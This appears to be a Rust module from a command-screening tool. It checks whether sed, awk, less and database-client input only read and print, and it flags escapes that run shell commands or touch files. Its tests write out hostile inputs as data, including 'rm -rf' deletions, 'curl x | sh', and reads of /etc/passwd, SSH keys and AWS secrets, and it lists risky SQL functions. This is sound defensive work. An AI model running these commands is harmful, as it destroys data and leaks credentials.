//! Readers for the small languages some text tools take as an operand: a `sed`
//! script, an `awk` program, and a pager's initial command (`less +CMD`).
//!
//! Each reader answers one question: is this text *plain*, so that it can only
//! read the tool's input files and print? Anything it does not recognise is not
//! plain: the command then runs code no rule can see, as any other program text
//! does. So a reader may be wrong only toward caution.

use super::Reason;

/// Whether a pager's initial command (`less +G`, `less +/TODO`; the word
/// with its `+` or `++`) only moves or searches. less reads it as keystrokes,
/// and under a terminal (which some agents give their shell) `!` runs a shell
/// command, `|` pipes to one, `v` opens an editor and `s` saves to a file; a
/// newline ends a search and starts another command. So a search is plain only
/// without `!`, `|` or control characters, and anything else only when it is a
/// number and a movement (`+50`, `+G`, `+F`, `+20%`).
#[must_use]
pub fn pager_command_is_plain(word: &str) -> bool {
    let cmd = word
        .strip_prefix("++")
        .or_else(|| word.strip_prefix('+'))
        .unwrap_or(word);
    match cmd.strip_prefix(['/', '?']) {
        Some(search) => !search
            .chars()
            .any(|c| c == '!' || c == '|' || c.is_control()),
        None => cmd
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, 'g' | 'G' | 'F' | 'p' | '%')),
    }
}

/// Whether a sed script only reads its input and prints: no `w`/`W` (write a
/// file), `r`/`R` (read one), `e` (run a command), and no `s` flag `w` or `e`.
/// GNU syntax, with every construct outside that grammar refused.
#[must_use]
pub fn sed_is_plain(script: &str) -> bool {
    // seds differ on whether a delimiter inside `[...]` ends a field: the
    // script is plain only when it is plain read either way.
    let s: Vec<char> = script.chars().collect();
    sed_plain(&s, false) && sed_plain(&s, true)
}

fn sed_plain(s: &[char], brackets: bool) -> bool {
    let mut i = 0;
    loop {
        // Separators between commands.
        while i < s.len() && (s[i].is_whitespace() || s[i] == ';' || s[i] == '}') {
            i += 1;
        }
        if i >= s.len() {
            return true;
        }
        if s[i] == '#' {
            while i < s.len() && s[i] != '\n' {
                i += 1;
            }
            continue;
        }
        let Some(next) = sed_address(s, i, brackets) else {
            return false;
        };
        i = skip_blanks(s, next);
        if i < s.len() && s[i] == ',' {
            let Some(next) = sed_address(s, skip_blanks(s, i + 1), brackets) else {
                return false;
            };
            i = skip_blanks(s, next);
        }
        while i < s.len() && s[i] == '!' {
            i = skip_blanks(s, i + 1);
        }
        let Some(&cmd) = s.get(i) else {
            return false;
        };
        i += 1;
        match cmd {
            '{' => continue,
            'p' | 'P' | 'd' | 'D' | 'n' | 'N' | 'g' | 'G' | 'h' | 'H' | 'x' | 'z' | '=' | 'F' => {}
            // An optional number: line wrap length or exit code.
            'l' | 'q' | 'Q' | 'L' => {
                i = skip_blanks(s, i);
                while i < s.len() && s[i].is_ascii_digit() {
                    i += 1;
                }
            }
            // Labels end at `;` or a newline; reading them short is the cautious
            // way, since whatever follows is then checked as commands.
            ':' | 'b' | 't' | 'T' | 'v' => {
                while i < s.len() && s[i] != ';' && s[i] != '\n' {
                    i += 1;
                }
            }
            // Text to print, to the end of the line. A `;` in it might end it
            // under some sed, so text holding one is not plain.
            'a' | 'i' | 'c' => {
                while i < s.len() && s[i] != '\n' {
                    if s[i] == ';' {
                        return false;
                    }
                    if s[i] == '\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            's' => {
                let Some(next) = delimited(s, i, 2, brackets) else {
                    return false;
                };
                i = next;
                while i < s.len() && (s[i].is_ascii_digit() || "gpiImM".contains(s[i])) {
                    i += 1;
                }
            }
            'y' => match delimited(s, i, 2, brackets) {
                Some(next) => i = next,
                None => return false,
            },
            _ => return false,
        }
        i = skip_blanks(s, i);
        match s.get(i) {
            None => return true,
            Some(';' | '\n' | '}' | '#') => {}
            Some(_) => return false,
        }
    }
}

/// An optional sed address at `i`; the index after it.
fn sed_address(s: &[char], i: usize, brackets: bool) -> Option<usize> {
    let mut i = i;
    match s.get(i) {
        Some(c) if c.is_ascii_digit() => {
            while i < s.len() && s[i].is_ascii_digit() {
                i += 1;
            }
            if s.get(i) == Some(&'~') {
                i += 1;
                while i < s.len() && s[i].is_ascii_digit() {
                    i += 1;
                }
            }
        }
        Some('$') => i += 1,
        Some('+' | '~') => {
            i += 1;
            while i < s.len() && s[i].is_ascii_digit() {
                i += 1;
            }
        }
        Some('/') => {
            i = delimited(s, i, 1, brackets)?;
            while i < s.len() && (s[i] == 'I' || s[i] == 'M') {
                i += 1;
            }
        }
        Some('\\') => {
            i = delimited(s, i + 1, 1, brackets)?;
            while i < s.len() && (s[i] == 'I' || s[i] == 'M') {
                i += 1;
            }
        }
        _ => {}
    }
    Some(i)
}

/// `parts` fields after the delimiter at `i` (`s/a/b/` has 2), each ended by
/// the delimiter; a backslash escapes the next character, and with `brackets` a
/// bracket expression hides the delimiter. The index after the last delimiter.
fn delimited(s: &[char], i: usize, parts: usize, brackets: bool) -> Option<usize> {
    let delim = *s.get(i)?;
    if delim == '\\' || delim == '\n' {
        return None;
    }
    let mut i = i + 1;
    let mut left = parts;
    while left > 0 {
        match s.get(i)? {
            '\\' => i += 2,
            '[' if brackets => {
                i += 1;
                if s.get(i) == Some(&'^') {
                    i += 1;
                }
                if s.get(i) == Some(&']') {
                    i += 1;
                }
                while *s.get(i)? != ']' {
                    i += 1;
                }
                i += 1;
            }
            c if *c == delim => {
                left -= 1;
                i += 1;
            }
            _ => i += 1,
        }
    }
    Some(i)
}

fn skip_blanks(s: &[char], mut i: usize) -> usize {
    while i < s.len() && (s[i] == ' ' || s[i] == '\t') {
        i += 1;
    }
    i
}

/// Whether an awk program only reads its input and prints to standard output:
/// no `system`, no pipes (`|`, `|&`), no `getline`, no redirection of `print`
/// or `printf` (`>`, `>>`), no `close`, no `ENVIRON` or `PROCINFO` (the
/// environment holds secrets), no `ARGV` or `ARGC` (which name the files it
/// reads), no `@` (gawk's `@include`, `@load`, indirect
/// calls). Strings are skipped; a word in a regex counts as code, toward caution.
#[must_use]
pub fn awk_is_plain(program: &str) -> bool {
    let s: Vec<char> = program.chars().collect();
    let mut i = 0;
    // Inside a `print`/`printf` statement: the paren depth where it began.
    let mut in_print: Option<usize> = None;
    let mut depth = 0usize;
    while i < s.len() {
        let c = s[i];
        match c {
            '"' => {
                i += 1;
                while i < s.len() && s[i] != '"' {
                    if s[i] == '\\' {
                        i += 1;
                    }
                    i += 1;
                }
                if i >= s.len() {
                    return false;
                }
            }
            '#' => {
                while i < s.len() && s[i] != '\n' {
                    i += 1;
                }
                continue;
            }
            '@' => return false,
            '|' => {
                if s.get(i + 1) == Some(&'|') {
                    i += 1;
                } else {
                    return false;
                }
            }
            '(' | '[' => depth += 1,
            ')' | ']' => depth = depth.saturating_sub(1),
            ';' | '\n' | '{' | '}' => in_print = None,
            '>' if in_print.is_some_and(|d| depth <= d) => return false,
            c if c.is_ascii_alphabetic() || c == '_' => {
                let start = i;
                while i < s.len() && (s[i].is_ascii_alphanumeric() || s[i] == '_') {
                    i += 1;
                }
                let word: String = s[start..i].iter().collect();
                match word.as_str() {
                    // `ARGV[1] = "~/.ssh/id_rsa"`: the program picks the files it reads.
                    // gawk's `SYMTAB["ENVIRON"]` is ENVIRON by another name.
                    "system" | "getline" | "close" | "ENVIRON" | "PROCINFO" | "fflush" | "ARGV"
                    | "ARGC" | "SYMTAB" => {
                        return false;
                    }
                    "print" | "printf" => in_print = Some(depth),
                    _ => {}
                }
                continue;
            }
            _ => {}
        }
        i += 1;
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_sed_scripts() {
        for s in [
            "p",
            "1,20p",
            "s/a/b/g",
            "s|/usr|/opt|",
            "s/x\\/y/z/2",
            "/^#/d",
            "$!N; P; D",
            "1~2d",
            "/start/,/end/{s/a/b/;p}",
            "\\%x%p",
            "y/abc/xyz/",
            "10q",
            "/re/I,+3p",
            ":a;N;$!ba;s/\\n/ /g",
            "# comment\np",
            "",
        ] {
            assert!(sed_is_plain(s), "{s:?} should be plain");
        }
    }

    #[test]
    fn sed_scripts_that_write_read_or_run() {
        for s in [
            "1e rm -rf /",
            "e id",
            "w /tmp/out",
            "s/a/b/w /tmp/out",
            "s/a/b/e",
            "s/a/b/ge",
            "r /etc/passwd",
            "R .env",
            "W out",
            "1{w out\n}",
            "p;w out",
            "/x/!e id",
            "s/a/b",
            "a hello; w out",
            "p w",
            "s/[/]/x/w out",
        ] {
            assert!(!sed_is_plain(s), "{s:?} is not plain");
        }
    }

    #[test]
    fn plain_awk_programs() {
        for p in [
            "1",
            "{print $1}",
            "NR>1{print}",
            "$3 > 100 {print $1}",
            "{print ($1 > $2)}",
            "BEGIN{FS=\":\"} {print $1 \"|\" $2}",
            "/a/ || /b/",
            "{s+=$1} END{print s}",
            "{printf \"%s > %s\\n\", $1, $2}",
        ] {
            assert!(awk_is_plain(p), "{p:?} should be plain");
        }
    }

    #[test]
    fn awk_programs_that_write_read_or_run() {
        for p in [
            "BEGIN{system(\"id\")}",
            "{print > \"out\"}",
            "{print $1 >> \"/tmp/x\"}",
            "{printf \"%s\", $1 > \"out\"}",
            "{print | \"sh\"}",
            "BEGIN{\"id\" | getline x; print x}",
            "BEGIN{while ((getline l < \".env\") > 0) print l}",
            "BEGIN{print ENVIRON[\"AWS_SECRET_ACCESS_KEY\"]}",
            "BEGIN{print SYMTAB[\"ENVIRON\"][\"AWS_SECRET_ACCESS_KEY\"]}",
            "BEGIN{ARGV[1]=\"/home/dev/.ssh/id_rsa\";ARGC=2}1",
            "BEGIN{ARGV[ARGC++]=\"/proc/self/environ\"}1",
            "@include \"x.awk\"",
            "BEGIN{print \"unterminated}",
            "{print |& \"cat\"}",
        ] {
            assert!(!awk_is_plain(p), "{p:?} is not plain");
        }
    }

    #[test]
    fn pager_commands_that_only_move_or_search() {
        for w in [
            "+",
            "+G",
            "+g",
            "+50",
            "++G",
            "+F",
            "+20%",
            "+/TODO",
            "+?fn main",
            "+/a.*b",
        ] {
            assert!(pager_command_is_plain(w), "{w:?} is plain");
        }
        for w in [
            "+!id",
            "++!id",
            "+|id",
            "+v",
            "+s /tmp/out",
            "+:e /etc/passwd",
            "+/x\n!id",
            "+/x|y",
            "+/!x",
            "+Gv",
            "+E",
        ] {
            assert!(!pager_command_is_plain(w), "{w:?} is not plain");
        }
    }
}

/// What a database client's input does besides running SQL on the server: the
/// escapes of psql (`\! CMD`, `\o |CMD`, `\copy … PROGRAM`), mysql (`system
/// CMD`, `\! CMD`), sqlite3 (`.shell CMD`, `.output FILE`, `.load`) and SQL
/// that reaches the machine (`COPY … PROGRAM`, `ATTACH 'FILE'`, `VACUUM INTO`,
/// `load_extension`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SqlEscape {
    /// A shell command it runs.
    Shell(String),
    /// A file it writes.
    Write(String),
    /// A file it reads.
    Read(String),
    /// Code no rule can see: the code of why, and why.
    Code(Reason, String),
}

/// sqlite3 dot-commands that only print or set the client's display.
const SQLITE_PLAIN: &[&str] = &[
    "tables",
    "table",
    "schema",
    "headers",
    "header",
    "mode",
    "help",
    "indexes",
    "indices",
    "databases",
    "quit",
    "exit",
    "print",
    "width",
    "nullvalue",
    "separator",
    "timer",
    "echo",
    "bail",
    "changes",
    "eqp",
    "show",
    "stats",
    "fullschema",
    "dbinfo",
    "lint",
    "version",
    "explain",
    "dump",
    "parameter",
    "prompt",
    "limit",
    "dbconfig",
    "timeout",
    "binary",
    "imposter",
    "selftest",
    "sha3sum",
    "vfsinfo",
    "vfslist",
    "vfsname",
    "scanstats",
];

/// psql meta-commands that only print, set variables or display options, or
/// connect (`\d…` lists objects).
const PSQL_PLAIN: &[&str] = &[
    "l",
    "list",
    "x",
    "timing",
    "echo",
    "qecho",
    "warn",
    "q",
    "quit",
    "c",
    "connect",
    "conninfo",
    "set",
    "unset",
    "pset",
    "a",
    "t",
    "C",
    "f",
    "H",
    "encoding",
    "errverbose",
    "p",
    "print",
    "r",
    "reset",
    "prompt",
    "if",
    "elif",
    "else",
    "endif",
    "bind",
    "crosstabview",
    "gdesc",
    "gset",
    "sf",
    "sv",
    "z",
    "h",
    "help",
    "?",
    "password",
    "cd",
    "getenv",
    "sx",
    "startpipeline",
    "endpipeline",
    "syncpipeline",
    "flushrequest",
    "flush",
    "getresults",
    "parse",
    "bind_named",
    "close",
    "restrict",
    "unrestrict",
];

/// The escapes in a database client's input (see [`SqlEscape`]). A reader of
/// the client languages' outer shape only: what it does not know is code.
#[must_use]
pub fn sql_escapes(text: &str) -> Vec<SqlEscape> {
    let mut out = Vec::new();
    for line in text.lines() {
        let t = line.trim_start();
        if let Some(dot) = t.strip_prefix('.') {
            sqlite_dot(dot, &mut out);
            continue;
        }
        let lower = t.to_ascii_lowercase();
        // mysql's `system CMD` (and `\! CMD`), `pager CMD`, `tee FILE`, `source FILE`.
        for (word, make) in [
            ("system ", SqlEscape::Shell as fn(String) -> SqlEscape),
            ("pager ", SqlEscape::Shell),
            ("tee ", SqlEscape::Write),
        ] {
            if lower.starts_with(word) {
                out.push(make(unquote(t[word.len()..].trim().trim_end_matches(';'))));
            }
        }
        if lower.starts_with("source ") {
            out.push(SqlEscape::Read(unquote(
                t[7..].trim().trim_end_matches(';'),
            )));
            out.push(SqlEscape::Code(
                Reason::SqlEscape,
                "it runs the SQL of a file".into(),
            ));
        }
        backslash_commands(t, &mut out);
    }
    sql_statements(text, &mut out);
    out
}

/// The argument words of a client command: quoted words unquoted.
fn unquote(s: &str) -> String {
    let s = s.trim();
    for q in ['\'', '"'] {
        if s.len() >= 2 && s.starts_with(q) && s.ends_with(q) {
            return s[1..s.len() - 1].replace(&format!("{q}{q}"), &q.to_string());
        }
    }
    s.to_string()
}

fn sqlite_dot(dot: &str, out: &mut Vec<SqlEscape>) {
    let (name, rest) = dot
        .split_once(char::is_whitespace)
        .map_or((dot, ""), |(n, r)| (n, r.trim()));
    let arg = unquote(rest);
    match name {
        "shell" | "system" => out.push(SqlEscape::Shell(arg)),
        "output" | "once" | "log" | "read" | "import" => {
            let first = rest
                .split_whitespace()
                .next()
                .map(unquote)
                .unwrap_or_default();
            if let Some(cmd) = arg.strip_prefix('|').or_else(|| first.strip_prefix('|')) {
                out.push(SqlEscape::Shell(cmd.trim().to_string()));
            } else if name == "read" {
                out.push(SqlEscape::Read(arg));
                out.push(SqlEscape::Code(
                    Reason::SqlEscape,
                    "`.read` runs the SQL of a file".into(),
                ));
            } else if name == "import" {
                out.push(SqlEscape::Read(first));
            } else if first.starts_with('-') {
                // `.once -x` and `-e` open the output in another program.
                out.push(SqlEscape::Code(
                    Reason::SqlEscape,
                    format!("`.{name} {first}` opens another program"),
                ));
            } else if !first.is_empty() && !matches!(first.as_str(), "stdout" | "off" | "stderr") {
                out.push(SqlEscape::Write(first));
            }
        }
        "save" | "backup" | "open" | "clone" => {
            if let Some(file) = rest.split_whitespace().last() {
                out.push(SqlEscape::Write(unquote(file)));
            }
        }
        "restore" => {
            if let Some(file) = rest.split_whitespace().last() {
                out.push(SqlEscape::Read(unquote(file)));
            }
        }
        n if SQLITE_PLAIN.contains(&n) => {}
        n => out.push(SqlEscape::Code(
            Reason::UnknownSqlCommand,
            format!("the dot-command `.{n}` is not known here"),
        )),
    }
}

fn backslash_commands(line: &str, out: &mut Vec<SqlEscape>) {
    let mut rest = line;
    while let Some(at) = rest.find('\\') {
        let after = &rest[at + 1..];
        let name: String = if after.starts_with(['!', '?', '.']) {
            after[..1].to_string()
        } else {
            after
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '+')
                .collect()
        };
        let args = after[name.len()..].trim();
        let first = args
            .split_whitespace()
            .next()
            .map(unquote)
            .unwrap_or_default();
        let lower = name.to_ascii_lowercase();
        match lower.as_str() {
            "" => {}
            "!" => {
                out.push(SqlEscape::Shell(args.to_string()));
                return;
            }
            // `\o |CMD`, `\g |CMD`, `\w |CMD`: a pipe to a shell command.
            "o" | "out" | "g" | "gx" | "w" | "write" | "s" | "tee" => {
                if let Some(cmd) = args.strip_prefix('|') {
                    out.push(SqlEscape::Shell(cmd.trim().to_string()));
                    return;
                }
                if !first.is_empty() {
                    out.push(SqlEscape::Write(first));
                }
            }
            "copy" => {
                let l = args.to_ascii_lowercase();
                match l.find(" program ") {
                    Some(p) => out.push(SqlEscape::Shell(unquote(
                        args[p + 9..]
                            .trim()
                            .split(" with")
                            .next()
                            .unwrap_or_default(),
                    ))),
                    None => out.push(SqlEscape::Code(
                        Reason::SqlEscape,
                        "`\\copy` reads or writes a file the reader does not follow".into(),
                    )),
                }
                return;
            }
            "i" | "include" | "ir" | "include_relative" | "." => {
                out.push(SqlEscape::Read(first));
                out.push(SqlEscape::Code(
                    Reason::SqlEscape,
                    "it runs the SQL of a file".into(),
                ));
            }
            "lo_export" => out.push(SqlEscape::Write(
                args.split_whitespace()
                    .nth(1)
                    .map(unquote)
                    .unwrap_or_default(),
            )),
            "lo_import" => out.push(SqlEscape::Read(first)),
            n if n.starts_with('d') || PSQL_PLAIN.contains(&n) => {}
            _ if name.chars().all(|c| c.is_ascii_digit()) => {}
            n => out.push(SqlEscape::Code(
                Reason::UnknownSqlCommand,
                format!("the client command `\\{n}` may run code no rule can see"),
            )),
        }
        rest = &after[name.len()..];
    }
}

/// The quoted string right after `at` in `text`, unescaped; `None` when what
/// follows is not one.
fn quoted_after(text: &str, at: usize) -> Option<String> {
    let rest = text.get(at..)?.trim_start();
    let body = rest.strip_prefix('\'')?;
    let mut s = String::new();
    let mut chars = body.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\'' {
            if chars.peek() == Some(&'\'') {
                chars.next();
                s.push('\'');
            } else {
                return Some(s);
            }
        } else {
            s.push(c);
        }
    }
    None
}

fn sql_statements(text: &str, out: &mut Vec<SqlEscape>) {
    let lower = text.to_ascii_lowercase();
    let mut words: Vec<(usize, &str)> = Vec::new();
    let mut start: Option<usize> = None;
    for (i, c) in lower
        .char_indices()
        .chain(std::iter::once((lower.len(), ' ')))
    {
        let part = c.is_ascii_alphanumeric() || c == '_';
        match (part, start) {
            (true, None) => start = Some(i),
            (false, Some(st)) => {
                words.push((st, &lower[st..i]));
                start = None;
            }
            _ => {}
        }
    }
    for (k, (at, w)) in words.iter().enumerate() {
        let next = words.get(k + 1).map(|(_, n)| *n);
        let end = at + w.len();
        match *w {
            // `COPY … TO PROGRAM 'CMD'`, `COPY … FROM PROGRAM 'CMD'`.
            "program" if k > 0 && matches!(words[k - 1].1, "to" | "from") => {
                match quoted_after(text, end) {
                    Some(cmd) => out.push(SqlEscape::Shell(cmd)),
                    None => out.push(SqlEscape::Code(
                        Reason::SqlEscape,
                        "`COPY … PROGRAM` runs a command that is not literal".into(),
                    )),
                }
            }
            // `ATTACH [DATABASE] 'FILE'` opens (creates) FILE; `VACUUM INTO 'FILE'` writes it.
            "attach" | "into" if k == 0 || !matches!(words[k - 1].1, "insert" | "select") => {
                let (skip, what) = match (*w, next) {
                    ("attach", Some("database")) => (words[k + 1].0 + 8, "attach"),
                    ("attach", _) => (end, "attach"),
                    ("into", _) if k > 0 && words[k - 1].1 == "vacuum" => (end, "vacuum"),
                    ("into", Some("outfile" | "dumpfile")) => (words[k + 1].0 + 8, "outfile"),
                    _ => continue,
                };
                match quoted_after(text, skip) {
                    Some(file) => out.push(SqlEscape::Write(file)),
                    None => out.push(SqlEscape::Code(
                        Reason::SqlEscape,
                        format!("`{what}` names a file that is not literal"),
                    )),
                }
            }
            "infile" => match quoted_after(text, end) {
                Some(file) => out.push(SqlEscape::Read(file)),
                None => out.push(SqlEscape::Code(
                    Reason::SqlEscape,
                    "`LOAD DATA INFILE` names a file that is not literal".into(),
                )),
            },
            "load_extension"
            | "sys_exec"
            | "sys_eval"
            | "lo_export"
            | "lo_import"
            | "pg_read_file"
            | "pg_read_binary_file"
            | "pg_ls_dir"
            | "load_file"
            | "dblink_exec"
            | "plpythonu"
            | "plpython3u"
            | "plperlu"
            | "pltclu"
            | "plsh" => {
                out.push(SqlEscape::Code(
                    Reason::SqlEscape,
                    format!("`{w}` reaches the machine the database runs on"),
                ));
            }
            "language" if matches!(next, Some("c" | "internal")) => {
                out.push(SqlEscape::Code(
                    Reason::SqlEscape,
                    "a function in `LANGUAGE C` is machine code".into(),
                ));
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod sql_tests {
    use super::SqlEscape::{Code, Read, Shell, Write};
    use super::sql_escapes;
    use crate::effects::Reason;

    #[test]
    fn client_escapes_and_statements() {
        assert_eq!(sql_escapes(".shell rm -rf ~"), [Shell("rm -rf ~".into())]);
        assert_eq!(sql_escapes(".system \"ls -l\""), [Shell("ls -l".into())]);
        assert_eq!(sql_escapes(".output |sh -c id"), [Shell("sh -c id".into())]);
        assert_eq!(sql_escapes(".once out.txt"), [Write("out.txt".into())]);
        assert!(matches!(
            sql_escapes(".load ./x.so")[..],
            [Code(Reason::UnknownSqlCommand, _)]
        ));
        assert_eq!(sql_escapes(".tables\n.schema t"), []);
        assert_eq!(
            sql_escapes("COPY t TO PROGRAM 'rm -rf ~'"),
            [Shell("rm -rf ~".into())]
        );
        assert_eq!(
            sql_escapes("copy t from program 'curl x | sh' with csv"),
            [Shell("curl x | sh".into())]
        );
        assert_eq!(sql_escapes("select 1 \\g |cat"), [Shell("cat".into())]);
        assert_eq!(sql_escapes("\\! id"), [Shell("id".into())]);
        assert_eq!(sql_escapes("\\dt+\n\\x\nselect 1;"), []);
        assert_eq!(
            sql_escapes("system rm -rf /tmp/x;"),
            [Shell("rm -rf /tmp/x".into())]
        );
        assert_eq!(
            sql_escapes("ATTACH DATABASE '/tmp/x.db' AS x"),
            [Write("/tmp/x.db".into())]
        );
        assert_eq!(sql_escapes("vacuum into 'b.db'"), [Write("b.db".into())]);
        assert_eq!(sql_escapes("insert into t values (1)"), []);
        assert_eq!(
            sql_escapes("load data local infile '/etc/passwd' into table t"),
            [Read("/etc/passwd".into())]
        );
        assert!(matches!(
            sql_escapes("select load_extension('x')")[..],
            [Code(..)]
        ));
        assert!(matches!(
            sql_escapes("\\setenv PAGER x")[..],
            [Code(Reason::UnknownSqlCommand, _)]
        ));
    }
}
